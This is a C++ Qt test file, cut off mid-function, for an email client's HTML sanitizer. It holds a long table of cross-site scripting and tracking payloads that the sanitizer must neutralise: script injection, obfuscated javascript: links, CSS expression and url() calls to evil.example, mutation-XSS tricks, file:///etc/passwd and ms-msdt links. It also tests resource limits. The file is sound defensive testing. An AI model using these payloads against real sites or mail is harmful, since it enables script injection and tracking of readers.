// SPDX-FileCopyrightText: 2026 The Postrider authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "ui/reader/html/HtmlSanitizer.h"
#include "HtmlOracle.h"
#include "ui/reader/html/ColorShift.h"

#include <ctime>

#include <QColor>
#include <QElapsedTimer>
#include <QRegularExpression>
#include <QTest>

using namespace postrider::ui::reader::html;

class HtmlSanitizerTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void torture_data();
    void torture();
    void tortureOfBytes();
    void keeps_data();
    void keeps();
    void countsRemotePictures();
    void namesWhatAChoiceAsks();
    void collectsContentIds();
    void hidesWhatTheSenderHid_data();
    void hidesWhatTheSenderHid();
    void followsStyleSheets_data();
    void followsStyleSheets();
    void artfulSheetsAreBounded();
    void fitsThePage_data();
    void fitsThePage();
    void takesThePageOfTheSender();
    void whatCannotBeSeenIsMadeReadable();
    void limits_data();
    void limits();
    void cutsLongOutput();
    void marksAreNotHeaped();
    void readsOnWhereLittleIsShown();
    void aBeginningIsBetterThanNothing();
    void darkPageTurnsColours();
    void darkPageKeepsTextReadable();
    void darkPageKeepsWhatIsDark();
    void boxesAreTables_data();
    void boxesAreTables();
    void zoomsFonts();
};

namespace {

struct Attack
{
    const char *name;
    const char *html;
};

// Each must come out harmless and with the word SAFE where it holds one outside of what is dropped.
const Attack attacks[] = {
    {"script", "SAFE<script>alert(1)</script>"},
    {"script upper case", "SAFE<SCRIPT SRC=//evil.example/x.js></SCRIPT>"},
    {"script in script", "<scr<script>ipt>alert(1)</scr</script>ipt>"},
    {"script unclosed", "SAFE<script>alert(1)"},
    {"script with slash", "SAFE<script/x>alert(1)</script>"},
    {"script after null", "SAFE<scr\\0ipt>alert(1)</scr\\0ipt>"},
    {"style sheet", "SAFE<style>body{background:url(http://evil.example/)}</style>"},
    {"style import", "SAFE<style>@import 'http://evil.example/x.css';</style>"},
    {"style breaks out", "<style><a title=\"</style><img src=x onerror=alert(1)>\"></style>SAFE"},
    {"link rel", "SAFE<link rel=stylesheet href=http://evil.example/x.css>"},
    {"link prefetch", "SAFE<link rel=dns-prefetch href=//evil.example>"},
    {"meta refresh", "SAFE<meta http-equiv=refresh content='0;url=http://evil.example'>"},
    {"meta dns", "SAFE<meta http-equiv=x-dns-prefetch-control content=on>"},
    {"base", "<base href=http://evil.example/>SAFE<a href=x>y</a>"},
    {"iframe", "SAFE<iframe src=http://evil.example></iframe>"},
    {"iframe srcdoc", "SAFE<iframe srcdoc='<script>alert(1)</script>'></iframe>"},
    {"frameset", "<frameset><frame src=http://evil.example></frameset>"},
    {"object", "SAFE<object data=http://evil.example/x.swf></object>"},
    {"embed", "SAFE<embed src=http://evil.example/x.swf>"},
    {"applet", "SAFE<applet code=x archive=http://evil.example></applet>"},
    {"form", "<form action=http://evil.example>SAFE<input name=password><button formaction=http://evil.example>go"
             "</button></form>"},
    {"input image", "SAFE<input type=image src=http://evil.example/x.png>"},
    {"textarea", "SAFE<textarea><script>alert(1)</script></textarea>"},
    {"select", "SAFE<select><option><script>alert(1)</script></select>"},
    {"isindex", "SAFE<isindex type=image src=http://evil.example action=javascript:alert(1)>"},
    {"keygen", "SAFE<keygen autofocus onfocus=alert(1)>"},
    {"onerror", "SAFE<img src=x onerror=alert(1)>"},
    {"onload on body", "<body onload=alert(1)>SAFE"},
    {"onclick", "<p onclick=alert(1)>SAFE</p>"},
    {"event without space", "SAFE<img/src=x/onerror=alert(1)>"},
    {"event with newline", "<p\nonmouseover\n=\nalert(1)>SAFE</p>"},
    {"javascript", "<a href=javascript:alert(1)>SAFE</a>"},
    {"javascript mixed case", "<a href='JaVaScRiPt:alert(1)'>SAFE</a>"},
    {"javascript with tab", "<a href='java\tscript:alert(1)'>SAFE</a>"},
    {"javascript with newline", "<a href='java\nscript:alert(1)'>SAFE</a>"},
    {"javascript by entity", "<a href='&#106;avascript&colon;alert(1)'>SAFE</a>"},
    {"javascript by hex entity", "<a href='&#x6A&#x61vascript:alert(1)'>SAFE</a>"},
    {"javascript after control", "<a href='&#1;javascript:alert(1)'>SAFE</a>"},
    {"javascript in image", "SAFE<img src=javascript:alert(1)>"},
    {"vbscript", "<a href=vbscript:msgbox(1)>SAFE</a>"},
    {"livescript", "<a href=livescript:alert(1)>SAFE</a>"},
    {"data link", "<a href='data:text/html,<script>alert(1)</script>'>SAFE</a>"},
    {"data image", "SAFE<img src='data:image/svg+xml;base64,PHN2Zy8+'>"},
    {"data image html", "SAFE<img src='data:text/html,x'>"},
    {"file link", "<a href=file:///etc/passwd>SAFE</a>"},
    {"file image", "SAFE<img src=file:///etc/passwd>"},
    {"path image", "SAFE<img src=/etc/passwd>"},
    {"resource image", "SAFE<img src=:/icons/app.png><img src=qrc:/icons/app.png>"},
    {"unc image", "SAFE<img src='\\\\evil.example\\share\\x.png'>"},
    {"smb link", "<a href=smb://evil.example/x>SAFE</a>"},
    {"ms-search link", "<a href=ms-msdt:/id>SAFE</a>"},
    {"http image", "SAFE<img src=http://evil.example/x.gif width=1 height=1>"},
    {"protocol relative image", "SAFE<img src=//evil.example/x.gif>"},
    {"srcset", "SAFE<img srcset='http://evil.example/x.gif 2x'>"},
    {"lowsrc", "SAFE<img lowsrc=http://evil.example/x.gif dynsrc=http://evil.example/y>"},
    {"picture", "SAFE<picture><source srcset=http://evil.example/x><img src=cid:a></picture>"},
    {"background", "<table background=http://evil.example/x.gif><tr><td background=http://evil.example>SAFE</table>"},
    {"css url", "<p style='background:url(http://evil.example/x)'>SAFE</p>"},
    {"css url quoted", "<p style=\"background-image:url('http://evil.example/x')\">SAFE</p>"},
    {"css list url", "<ul style='list-style:url(http://evil.example/x)'><li>SAFE</ul>"},
    {"css content", "<p style='content:url(http://evil.example/x)'>SAFE</p>"},
    {"css cursor", "<p style='cursor:url(http://evil.example/x),auto'>SAFE</p>"},
    {"css expression", "<p style='width:expression(alert(1))'>SAFE</p>"},
    {"css expression comment", "<p style='width:exp/**/ression(alert(1))'>SAFE</p>"},
    {"css escape", "<p style='background:\\75rl(http://evil.example/x)'>SAFE</p>"},
    {"css colour escape", "<p style='color:r\\65 d;color:#fff/**/;'>SAFE</p>"},
    {"css behaviour", "<p style='behavior:url(x.htc);-moz-binding:url(http://evil.example)'>SAFE</p>"},
    {"css import", "<p style='@import \"http://evil.example/x\"'>SAFE</p>"},
    {"css position", "<div style='position:fixed;top:0;left:0;width:100%;z-index:999'>SAFE</div>"},
    {"css breaks out", "<p style='color:red\"><script>alert(1)</script>'>SAFE</p>"},
    {"css quote", "<p style='font-family:\"</p><script>alert(1)</script>\"'>SAFE</p>"},
    {"svg", "SAFE<svg onload=alert(1)><script>alert(1)</script></svg>"},
    {"svg image", "SAFE<svg><image xlink:href=http://evil.example/x></svg>"},
    {"svg foreign object", "SAFE<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>"},
    {"svg style", "<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>SAFE"},
    {"svg title mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"},
    {"math", "SAFE<math href=javascript:alert(1)><mtext>x</mtext></math>"},
    {"math mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
                      "onerror=alert(1)&gt;\">"},
    {"math annotation", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>"},
    {"form mutation", "<form><div></form><form><script>alert(1)</script>"},
    {"noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>SAFE"},
    {"noembed", "<noembed><img src=x onerror=alert(1)></noembed>SAFE"},
    {"xmp", "SAFE<xmp><script>alert(1)</script></xmp>"},
    {"plaintext", "SAFE<plaintext><script>alert(1)</script>"},
    {"template", "SAFE<template><script>alert(1)</script></template>"},
    {"title", "<title><script>alert(1)</script></title>SAFE"},
    {"comment", "SAFE<!-- <script>alert(1)</script> -->"},
    {"comment breaks out", "SAFE<!--><script>alert(1)</script>-->"},
    {"comment bang", "SAFE<!--x--!><img src=x onerror=alert(1)>"},
    {"conditional comment", "SAFE<!--[if mso]><script>alert(1)</script><![endif]-->"},
    {"cdata", "SAFE<![CDATA[<script>alert(1)</script>]]>"},
    {"processing instruction", "SAFE<?xml-stylesheet href='http://evil.example'?>"},
    {"doctype", "<!DOCTYPE html SYSTEM 'http://evil.example/x.dtd' [<!ENTITY x 'y'>]>SAFE&x;"},
    {"audio video", "SAFE<audio src=//evil.example><video poster=//evil.example><track src=//evil.example></video>"},
    {"canvas", "SAFE<canvas></canvas>"},
    {"marquee", "<marquee onstart=alert(1)>SAFE</marquee>"},
    {"unknown element", "<o:p onclick=alert(1)>SAFE</o:p><x-y style='x'>z</x-y>"},
    {"image map", "SAFE<map name=x><area href=javascript:alert(1)></map>"},
    {"dialog", "<dialog open><p>SAFE</p></dialog>"},
    {"quote in attribute", "<a href='http://ok.example/\"onmouseover=alert(1) x=\"'>SAFE</a>"},
    {"backtick attribute", "<img src=`javascript:alert(1)`>SAFE"},
    {"angle in alt", "<img src=cid:a alt='\"><script>alert(1)</script>'>SAFE"},
    {"cid breaks out", "<img src='cid:a\"onerror=alert(1)'>SAFE"},
    {"utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-SAFE"},
    {"overlong", "SAFE\xc0\xbcscript\xc0\xbe alert(1)"},
    {"link with user", "<a href='https://user@evil.example/'>SAFE</a>"},
    {"link with backslash", "<a href='https:\\\\evil.example'>SAFE</a>"},
    {"link without host", "<a href='http:///x'>SAFE</a><a href='https:'>y</a>"},
    {"relative link", "<a href='/settings'>SAFE</a><a href='#x'>y</a>"},
    {"ping", "<a href='https://ok.example' ping='http://evil.example' target=_blank>SAFE</a>"},
    {"contenteditable", "<p contenteditable autofocus onfocus=alert(1) id=x name=y class=z>SAFE</p>"},
    {"unclosed attribute", "SAFE<img src=\"cid:a onerror=alert(1)"},
    {"unclosed tag", "SAFE<a href='https://ok.example'"},
    {"nested links", "<a href=https://a.example>x<a href=javascript:alert(1)>SAFE</a></a>"},
    {"table mutation", "<table><script>alert(1)</script><tr><style></style><td>SAFE<form><input></table>"},
    {"tab by entity", "<a href='java&Tab;script:alert(1)'>SAFE</a>"},
    {"newline by entity", "<a href='java&NewLine;script:alert(1)'>SAFE</a>"},
    {"blank before the scheme", "<a href='&#160;&#8203;javascript:alert(1)'>SAFE</a>"},
    {"scheme in full width", "<a href='ｊavascript:alert(1)'>SAFE</a>"},
    {"view-source", "<a href='view-source:javascript:alert(1)'>SAFE</a>"},
    {"blob and filesystem", "<a href='blob:https://a.example/x'>SAFE</a><a href='filesystem:x'>y</a>"},
    {"link with backslash behind slashes", "<a href='//evil.example\\@ok.example'>SAFE</a>"},
    {"old image", "SAFE<image src=http://evil.example/x onerror=alert(1)>"},
    {"srcset behind a part of the mail", "SAFE<img src=cid:a srcset='cid:a 1x, http://evil.example/x 2x'>"},
    {"svg link", "SAFE<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>"},
    {"cdata in svg", "SAFE<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>"},
    {"svg p style", "SAFE<svg></p><style><g title=\"</style><img src=x onerror=alert(1)>\">"},
    {"math form style", "SAFE<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"},
    {"math table style", "SAFE<math><mtext><table><mglyph><style><math><table><script>alert(1)</script></table>"},
    {"svg title style", "SAFE<svg><title><style></title><img src=x onerror=alert(1)></style></svg>"},
    {"annotation svg", "SAFE<math><annotation-xml encoding='text/html'><svg><style><!--</style><img src=x "
                       "onerror=alert(1)>--></svg></annotation-xml></math>"},
    {"comment in comment", "SAFE<!-- <!-- --> <script>alert(1)</script> -->"},
    {"comment with exclamation", "SAFE<!-- --!><script>alert(1)</script>-->"},
    {"template in template", "SAFE<template><template></template><script>alert(1)</script></template>"},
    {"noscript style", "SAFE<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>"},
    {"listing", "SAFE<listing>&lt;img src=x onerror=alert(1)&gt;</listing>"},
    {"pre with newline", "<pre>\n\nSAFE</pre>"},
    {"entities twice", "SAFE&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"},
    {"frame markers", "SAFE&#xFDD0;&#xFDD1;&#xFFFC;&#x2028;&#x2029;"},
    {"attribute with slashes", "SAFE<img/src='cid:a'/onerror=alert(1)/style=x>"},
    {"attribute twice", "<a href='https://ok.example' href='javascript:alert(1)'>SAFE</a>"},
    {"attribute with a quote in its name", "<a \"href='javascript:alert(1)'>SAFE</a>"},
    {"cid with a path", "SAFE<img src='cid:../../etc/passwd'><img src='cid://evil.example/x'>"},
    {"remote of its own", "SAFE<img src='remote:0'><img src='fold:'><a href='fold:'>x</a>"},
    {"css url by entity", "<p style='background:url&#40;//evil.example&#41;'>SAFE</p>"},
    {"css property", "SAFE<style>@property --x{syntax:'<url>';initial-value:url(//evil.example)}</style>"},
    {"css attr", "<p title='//evil.example' style='background:attr(title url)'>SAFE</p>"},
    {"css image-set", "<p style='background:image-set(\"//evil.example\" 1x)'>SAFE</p>"},
    {"css colour that runs", "<p style='color:expression(alert(1));color:javascript:alert(1)'>SAFE</p>"},
    {"css with a number too long", "<p style='font-size:1e999px;padding:99999999999999999999px'>SAFE</p>"},
    {"bgcolor breaks out", "<table bgcolor='red\"><script>alert(1)</script>'><tr><td>SAFE</table>"},
    {"width breaks out", "<table width='1\"><script>'><tr><td width='50%\"x'>SAFE</table>"},
    {"select mutation", "<select><iframe></select><img src=x onerror=alert(1)>SAFE"},
};

} // namespace

void HtmlSanitizerTest::torture_data()
{
    QTest::addColumn<QByteArray>("html");
    for (const Attack &attack : attacks)
        QTest::newRow(attack.name) << QByteArray(attack.html);
}

void HtmlSanitizerTest::torture()
{
    QFETCH(QByteArray, html);
    const SanitizedHtml result = HtmlSanitizer::sanitize(QString::fromUtf8(html));
    QCOMPARE(firstForbidden(result.html), QString());
    QVERIFY(!result.html.contains(QLatin1String("<script"), Qt::CaseInsensitive));
    if (html.contains("SAFE"))
        QVERIFY2(result.html.contains(QLatin1String("SAFE")), qPrintable(result.html));
    const SanitizedHtml again = HtmlSanitizer::sanitize(result.html);
    QCOMPARE(again.remotePictures, 0);
    QCOMPARE(firstForbidden(again.html), QString());
}

/// A browser and a parser may part words at another place when a NUL or half a character stands in them.
void HtmlSanitizerTest::tortureOfBytes()
{
    for (const char16_t odd :
         {u'\0', u'\u0001', u'\u000b', u'\u000c', u'\u001f', u'\u0080', u'\ufeff', u'\ufffe', u'\xd800', u'\xdc00'}) {
        const QString c(1, QChar(odd));
        for (const QString &html :
             {QStringLiteral("SAFE<scr%1ipt>alert(1)</scr%1ipt>"), QStringLiteral("SAFE<script%1>alert(1)</script%1>"),
              QStringLiteral("SAFE<%1script>alert(1)</script>"),
              QStringLiteral("<a href='java%1script:alert(1)'>SAFE</a>"),
              QStringLiteral("<a href='%1javascript:alert(1)'>SAFE</a>"),
              QStringLiteral("<a h%1ref='javascript:alert(1)'>SAFE</a>"),
              QStringLiteral("<p style='background:u%1rl(//evil.example)'>SAFE</p>"),
              QStringLiteral("SAFE<img%1src=x onerror=alert(1)>"),
              QStringLiteral("SAFE<style%1>*{background:url(//evil.example)}</style>"),
              QStringLiteral("SAFE<!--%1--><b>x</b>--%1>"), QStringLiteral("SAFE<svg%1><script>x")}) {
            const SanitizedHtml result = HtmlSanitizer::sanitize(html.arg(c));
            QCOMPARE(firstForbidden(result.html), QString());
            QVERIFY2(result.html.contains(QLatin1String("SAFE")), qPrintable(html));
            QVERIFY(!result.html.contains(QLatin1String("<script"), Qt::CaseInsensitive));
        }
    }
    const QString endless(2'000'000, QLatin1Char('x'));
    for (const QString &html :
         {QStringLiteral("<a href='https://%1.example'>SAFE</a>"), QStringLiteral("<p style='%1'>SAFE</p>"),
          QStringLiteral("<p %1=x>SAFE</p>"), QStringLiteral("<%1>SAFE</p>"), QStringLiteral("SAFE<img src='cid:%1'>"),
          QStringLiteral("SAFE<img src='https://ok.example/%1'>")})
        QCOMPARE(firstForbidden(HtmlSanitizer::sanitize(html.arg(endless)).html), QString());
}

void HtmlSanitizerTest::keeps_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("expected");
    const auto row = [](const char *name, const char *html, const char *expected) {
        QTest::newRow(name) << QString::fromUtf8(html) << QString::fromUtf8(expected);
    };
    row("text", "a &lt; b &amp; c", "a &lt; b &amp; c");
    row("bold", "<strong>x</strong>", "<b>x</b>");
    row("link", "<a href=\"https://example.org/a?b=c&amp;d=e\">x</a>",
        "<a href=\"https://example.org/a?b=c&amp;d=e\">x</a>");
    row("protocol-relative link", "<a href='//example.org/'>x</a>", "<a href=\"https://example.org/\">x</a>");
    row("mailto", "<a href='mailto:a@example.org?subject=x'>x</a>", "<a href=\"mailto:a@example.org?subject=x\">x</a>");
    row("colour", "<span style='COLOR: Red'>x</span>", "<span style=\"color:#ff0000;\">x</span>");
    row("rgb", "<span style='color:rgb(1, 2, 3)'>x</span>", "<span style=\"color:#010203;\">x</span>");
    row("bgcolor", "<table bgcolor=eeeeee><tr><td>x</table>",
        "<table border=\"0\" cellspacing=\"0\" cellpadding=\"0\" style=\"background-color:#eeeeee;\"><tbody><tr><td>x"
        "</td></tr></tbody></table>");
    row("font", "<font color=#00ff00 size=5 face=x>x</font>", "<span style=\"font-size:24px;color:#00ff00;\">x</span>");
    row("inline picture", "<img src='cid:logo@x' alt=Logo width=100>",
        "<img src=\"cid:logo%40x\" alt=\"Logo\" width=\"100\">");
    row("blocked picture", "<img src=https://example.org/x.png alt='A cat'>", "<span>[A cat]</span>");
    row("chinese", "<p>你好，世界</p>", "<p>你好，世界</p>");
    row("emoji", "<p>\U0001F600</p>", "<p>\U0001F600</p>");
    row("rtl", "<div dir=rtl>שלום</div>", "<div dir=\"rtl\">שלום</div>");
    row("article", "<article><header>x</header></article>", "<div><div>x</div></div>");
    row("quote loses its style", "<blockquote style='margin:0;color:red' type=cite>x</blockquote>",
        "<blockquote>x</blockquote>");
    row("bidi override", "a\u202eb", "ab");
    row("text behind a block", "<div><p>a</p>b <b>c</b><p>d</p></div>",
        "<div><p>a</p><div>b <b>c</b></div><p>d</p></div>");
    row("list", "<ol start=3><li>x</ol>", "<ol start=\"3\"><li>x</li></ol>");
    row("spans are bounded", "<table><tr><td colspan=99999999 rowspan=-1>x</table>",
        "<table border=\"0\" cellspacing=\"0\" cellpadding=\"0\"><tbody><tr><td colspan=\"64\">x</td></tr></tbody>"
        "</table>");
}

void HtmlSanitizerTest::keeps()
{
    QFETCH(QString, html);
    QFETCH(QString, expected);
    QCOMPARE(HtmlSanitizer::sanitize(html).html, expected);
    QCOMPARE(firstForbidden(expected), QString());
}

void HtmlSanitizerTest::countsRemotePictures()
{
    const SanitizedHtml result = HtmlSanitizer::sanitize(QStringLiteral(
        "<img src=https://a.example/1.png><img src='http://b.example/t.gif' width=1 height=1>"
        "<table background='https://a.example/2.png'><tr><td style='background:url(https://c.example/3.png)'>x</table>"
        "<img src='cid:x'><img src='data:image/png;base64,AAAA'><img src='https://a.example/4' "
        "style='display:none'><style>.p{width:1px;height:1px}</style><img class=p src='https://d.example/t'>"
        "<p><a style='background:#000 url(https://c.example/5.png);padding:8px'>x</a></p>"));
    QCOMPARE(result.remotePictures, 7);
    QCOMPARE(result.trackers, 3);
    QVERIFY(!result.trackerHosts.isEmpty());
    for (const QString &host : result.trackerHosts)
        QVERIFY(result.remoteHosts.contains(host));
    QCOMPARE(result.remoteHosts,
             QStringList({QStringLiteral("a.example"), QStringLiteral("b.example"), QStringLiteral("d.example")}));
}

/// A tracker among the choices of one picture is one, and has a name.
void HtmlSanitizerTest::namesWhatAChoiceAsks()
{
    const SanitizedHtml result = HtmlSanitizer::sanitize(
        QStringLiteral("<img width=1 height=1 src=cid:x srcset='cid:x 1x, https://spy.example/a 2x'>"
                       "<picture><source srcset=' ,https://b.example/b 2x'><img src=cid:x></picture>"));
    QCOMPARE(result.remotePictures, 2);
    QCOMPARE(result.trackerHosts, QStringList{QStringLiteral("spy.example")});
    QCOMPARE(result.remoteHosts, QStringList({QStringLiteral("spy.example"), QStringLiteral("b.example")}));
    QVERIFY(result.remoteUrls.isEmpty());
}

void HtmlSanitizerTest::collectsContentIds()
{
    const SanitizedHtml result = HtmlSanitizer::sanitize(
        QStringLiteral("<img src='cid:a@b'><img src='CID:%3Cc%20d%3E'><img src='cid:a@b'><img src='cid:'>"));
    QCOMPARE(result.contentIds, QStringList({QStringLiteral("a@b"), QStringLiteral("c d")}));
}

void HtmlSanitizerTest::hidesWhatTheSenderHid_data()
{
    QTest::addColumn<QString>("html");
    QTest::newRow("display") << QStringLiteral("<div style='display: none !important'>secret</div>");
    QTest::newRow("visibility") << QStringLiteral("<span style='visibility:hidden'>secret</span>");
    QTest::newRow("office") << QStringLiteral("<p style='mso-hide:all'>secret</p>");
    QTest::newRow("height") << QStringLiteral("<div style='max-height:0;overflow:hidden'>secret</div>");
    QTest::newRow("no height") << QStringLiteral("<div style='height:0px;overflow:hidden'>secret</div>");
    QTest::newRow("no width") << QStringLiteral("<div style='max-width:0;font-size:1px'>secret</div>");
    QTest::newRow("sheet") << QStringLiteral("<style>.p{display:none}</style><div class=p>secret</div>");
    QTest::newRow("attribute") << QStringLiteral("<div hidden>secret</div>");
    QTest::newRow("button") << QStringLiteral("<p><a hidden style='background:#000;padding:8px'>secret</a></p>");
    QTest::newRow("inner") << QStringLiteral("<div style='display:none'><p style='display:block'>secret</p></div>");
}

void HtmlSanitizerTest::hidesWhatTheSenderHid()
{
    QFETCH(QString, html);
    const QString result = HtmlSanitizer::sanitize(html + QStringLiteral("shown")).html;
    QVERIFY(!result.contains(QLatin1String("secret")));
    QVERIFY(result.contains(QLatin1String("shown")));
}

void HtmlSanitizerTest::limits_data()
{
    QTest::addColumn<QString>("html");
    const auto repeat = [](const char *text, int times) { return QString::fromLatin1(text).repeated(times); };
    QTest::newRow("10,000 nested tables") << repeat("<table><tr><td>", 10000) + QStringLiteral("deep");
    QTest::newRow("100,000 nested divisions") << repeat("<div>", 100000) + QStringLiteral("deep");
    QTest::newRow("100,000 nested bold") << repeat("<b>", 100000) + QStringLiteral("deep");
    QTest::newRow("1,000,000 nested spans") << repeat("<span>", 1000000) + QStringLiteral("deep");
    QTest::newRow("misnested formatting") << repeat("<b><i><a><p>", 30000) + QStringLiteral("deep");
    QTest::newRow("adoption agency") << repeat("<a><div>x</a>", 20000);
    QTest::newRow("many formatting elements") << [] {
        QString html;
        for (int i = 0; i < 5000; ++i)
            html += QStringLiteral("<font size=%1>").arg(i);
        return html + QStringLiteral("<p>x</p>").repeated(5000);
    }();
    QTest::newRow("500,000 attributes on one element") << QStringLiteral("<p ") + [] {
        QString html;
        for (int i = 0; i < 500000; ++i)
            html += QStringLiteral("a%1=b ").arg(i);
        return html;
    }() + QStringLiteral(">x");
    QTest::newRow("50 MB of text") << repeat("0123456789", 5000000);
    QTest::newRow("8 MB of opening brackets") << repeat("<", 8000000);
    QTest::newRow("1,000,000 entities") << repeat("&amp", 1000000);
    QTest::newRow("200,000 table cells") << QStringLiteral("<table>") + repeat("<tr><td>x<td>y", 100000);
    QTest::newRow("spans upon spans") << QStringLiteral("<table>") +
                                             repeat("<tr><td colspan=999 rowspan=999>x<td>y", 3000);
    QTest::newRow("a wide row and many short ones")
        << QStringLiteral("<table><tr>") + repeat("<td>x", 5000) + repeat("<tr><td>y", 5000);
    QTest::newRow("170,000 rules of style")
        << QStringLiteral("<style>") + repeat("a{}", 170000) + QStringLiteral("</style>deep");
    QTest::newRow("many rules for many elements")
        << QStringLiteral("<style>") + repeat("p b i,div p b{color:red}", 20000) + QStringLiteral("</style>") +
               repeat("<div><p><b><i>x</i></b></p></div>", 20000);
    QTest::newRow("unclosed comment") << QStringLiteral("<!--") + repeat("-", 5000000);
}

void HtmlSanitizerTest::limits()
{
    QFETCH(QString, html);
    // Of this process: how long others keep the machine says nothing.
    const std::clock_t start = std::clock();
    const SanitizedHtml result = HtmlSanitizer::sanitize(html);
    const long long spent = (std::clock() - start) * 1000LL / CLOCKS_PER_SEC;
    qInfo() << spent << "ms," << result.html.size() << "units, too complex:" << result.tooComplex;
    QCOMPARE_LT(spent, 30000); // budget 1.5 s of parsing; the rest is for builds that are not optimised
    QVERIFY(result.html.size() <= SanitizeOptions().longestOutput + 30000);
    QCOMPARE(firstForbidden(result.html), QString());
    if (html.contains(QLatin1String("deep")) && !result.tooComplex && !result.cut)
        QVERIFY(result.html.contains(QLatin1String("deep")));
}

void HtmlSanitizerTest::followsStyleSheets_data()
{
    QTest::addColumn<QString>("sheet");
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("style");
    const auto row = [](const char *name, const char *sheet, const char *html, const char *style) {
        QTest::newRow(name) << QString::fromUtf8(sheet) << QString::fromUtf8(html) << QString::fromUtf8(style);
    };
    row("element", "p{color:#010203}", "<p>x</p>", "color:#010203;");
    row("class", ".a{color:#010203}", "<p class='b a'>x</p>", "color:#010203;");
    row("id", "#a{color:#010203}", "<p id=a>x</p>", "color:#010203;");
    row("all", "*{color:#010203}", "<p>x</p>", "color:#010203;");
    row("several", "h1, p, h2{color:#010203}", "<p>x</p>", "color:#010203;");
    row("element and class", "div.a{color:#010203} p.a{color:#040506}", "<p class=a>x</p>", "color:#040506;");
    row("two classes", ".a.b{color:#010203}", "<p class=a>x</p>", "");
    row("in what it stands in", ".a p{color:#010203}", "<div class=a><div><p>x</p></div></div>", "color:#010203;");
    row("not in it", ".a p{color:#010203}", "<p>x</p>", "");
    row("child", ".a > p{color:#010203}", "<div class=a><p>x</p></div>", "color:#010203;");
    row("grandchild", ".a>p{color:#010203}", "<div class=a><div><p>x</p></div></div>", "");
    row("case of elements", "P{COLOR:#010203}", "<p>x</p>", "color:#010203;");
    row("case of classes", ".A{color:#010203}", "<p class=a>x</p>", "");
    row("the later", "p{color:#010203} p{color:#040506}", "<p>x</p>", "color:#040506;");
    row("the closer", "p.a{color:#010203} p{color:#040506}", "<p class=a>x</p>", "color:#010203;");
    row("id before classes", "#a{color:#010203} .a.b.c{color:#040506}", "<p id=a class='a b c'>x</p>",
        "color:#010203;");
    row("its own before all", "#a{color:#040506}", "<p id=a style='color:#010203'>x</p>", "color:#010203;");
    row("important before its own", "p{color:#010203 !important}", "<p style='color:#040506'>x</p>", "color:#010203;");
    row("its own important", "p{color:#040506!important}", "<p style='color:#010203!important'>x</p>",
        "color:#010203;");
    row("comment", "/* p{color:#040506} */ p{/**/color:#010203/**/}", "<p>x</p>", "color:#010203;");
    row("in a comment of HTML", "<!-- p{color:#010203} -->", "<p>x</p>", "color:#010203;");
    row("link", "a:link{color:#010203}", "<a>x</a>", "color:#010203;");
    row("pointer", "a:hover{color:#010203}", "<a>x</a>", "");
    row("attribute", "a[x-apple-data-detectors]{color:#010203}", "<a x-apple-data-detectors>x</a>", "");
    row("neighbour", "u + p{color:#010203}", "<u>y</u><p>x</p>", "");
    row("before it", "p::before{content:'y';color:#010203}", "<p>x</p>", "");
    row("paper", "@media print{p{color:#010203}}", "<p>x</p>", "");
    row("screen", "@media screen{p{color:#010203}}", "<p>x</p>", "color:#010203;");
    row("phone", "@media screen and (max-width: 480px){p{color:#010203}}", "<p>x</p>", "");
    row("no phone", "@media only screen and (min-width:480px){p{color:#010203}}", "<p>x</p>", "color:#010203;");
    row("dark", "@media (prefers-color-scheme:dark){p{color:#010203}}", "<p>x</p>", "");
    row("import", "@import url(//e.example/a.css); p{color:#010203}", "<p>x</p>", "color:#010203;");
    row("font face", "@font-face{font-family:x;src:url(//e.example/f)} p{color:#010203}", "<p>x</p>", "color:#010203;");
    row("unclosed", "p{color:#010203", "<p>x</p>", "color:#010203;");
    row("picture", "p{background:#d1d2d3 url(//e.example/p) top}", "<p>x</p>", "background-color:#d1d2d3;");
    row("padding", "td{padding:1px 2px 3px}", "<table><td>x</td></table>",
        "padding-top:1px;padding-right:2px;padding-bottom:3px;padding-left:2px;");
    row("margin", "p{margin:0 0 14px}", "<p>x</p>", "margin-top:0px;margin-bottom:14px;");
    row("part after all", "p{margin:0;margin-top:4px}", "<p>x</p>", "margin-bottom:0px;margin-top:4px;");
    row("all after part", "p{margin-top:4px;margin:0}", "<p>x</p>", "margin-top:0px;margin-bottom:0px;");
    row("font", "p{font:italic bold 14px/1.17 'Times New Roman',serif}", "<p>x</p>",
        "font-style:italic;font-weight:bold;font-size:14px;line-height:1.00;font-family:serif;");
    row("letters of one width", "p{font-family:Consolas,'Courier New'}", "<p>x</p>", "font-family:monospace;");
    row("a font of theirs", "p{font-family:'Fancy',Arial,sans-serif}", "<p>x</p>", "");
    row("border", "td{border-top:1px solid #ddd;border-left:none}", "<table><td>x</td></table>",
        "border-top:1px solid #dddddd;");
}

void HtmlSanitizerTest::followsStyleSheets()
{
    QFETCH(QString, sheet);
    QFETCH(QString, html);
    QFETCH(QString, style);
    const QString result =
        HtmlSanitizer::sanitize(QStringLiteral("<html><head><style>%1</style></head><body>%2").arg(sheet, html)).html;
    QCOMPARE(firstForbidden(result), QString());
    static const QRegularExpression styled(QStringLiteral("style=\"([^\"]*)\""));
    QCOMPARE(styled.match(result).captured(1), style);
    QVERIFY(result.contains(QLatin1Char('x')));
}

/// Rules that hold for all, asked for by many: what is past a bound is shown without them.
void HtmlSanitizerTest::artfulSheetsAreBounded()
{
    QString sheet;
    for (int i = 0; i < 20000; ++i)
        sheet += QStringLiteral("* * * * * p{color:#%1}").arg(i % 1000, 6, 10, QLatin1Char('0'));
    const QString deep = QStringLiteral("<div>").repeated(90) + QStringLiteral("<p>x</p>").repeated(50000);
    QElapsedTimer timer;
    timer.start();
